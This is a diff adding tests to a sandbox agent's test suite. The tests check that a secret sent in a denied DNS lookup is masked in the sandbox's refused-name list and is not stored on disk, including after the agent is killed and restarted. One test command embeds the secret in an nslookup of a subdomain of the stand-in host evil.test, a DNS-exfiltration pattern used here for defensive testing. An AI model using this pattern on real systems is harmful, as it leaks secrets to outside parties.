@@ -77,6 +77,35 @@ test('what a list keeps out is told, by name or by address', async () => {
   ])
 })
 
+describe('a value that is to be masked', () => {
+  const secret = 'tr0ub4dor-and-3'
+  const spec = () => ({
+    ...shellJob(image, `nslookup -type=a ${secret}.evil.test; sleep 1`, { timeoutMs: 60_000 }),
+    network: { egressCapBytes: 1024 ** 3, allow: { names: [], ranges: [] } },
+  })
+  const kept = async (id: string) =>
+    await agent.onHost('grep', '-rlF', secret, `${agent.dataDir}/agent/sandboxes/${id}`).catch(() => '')
+
+  test('is in no name that was refused', async () => {
+    const asking = spec()
+    await agent.client.start(asking, Buffer.alloc(0), [secret])
+    const { network } = await agent.client.wait(asking.id)
+    expect(network.refused?.entries.map(({ name }) => name)).toEqual(['[masked].evil.test'])
+    // Nothing but this test's own command line says it.
+    expect(await kept(asking.id)).not.toContain('refusals')
+  })
+
+  test('stays masked where the agent that knew it has died', async () => {
+    const asking = spec()
+    await agent.client.start(asking, Buffer.alloc(0), [secret])
+    await agent.end('SIGKILL')
+    await agent.start()
+    const { network } = await agent.client.wait(asking.id)
+    for (const { name } of network.refused?.entries ?? []) expect(name).toBe('[masked]')
+    expect(await kept(asking.id)).not.toContain('refusals')
+  })
+})
+
 test('a sandbox to which nothing was refused has no such list', async () => {
   expect(await refusedTo(connect(beyond.ip4, 80))).toBeUndefined()
 })
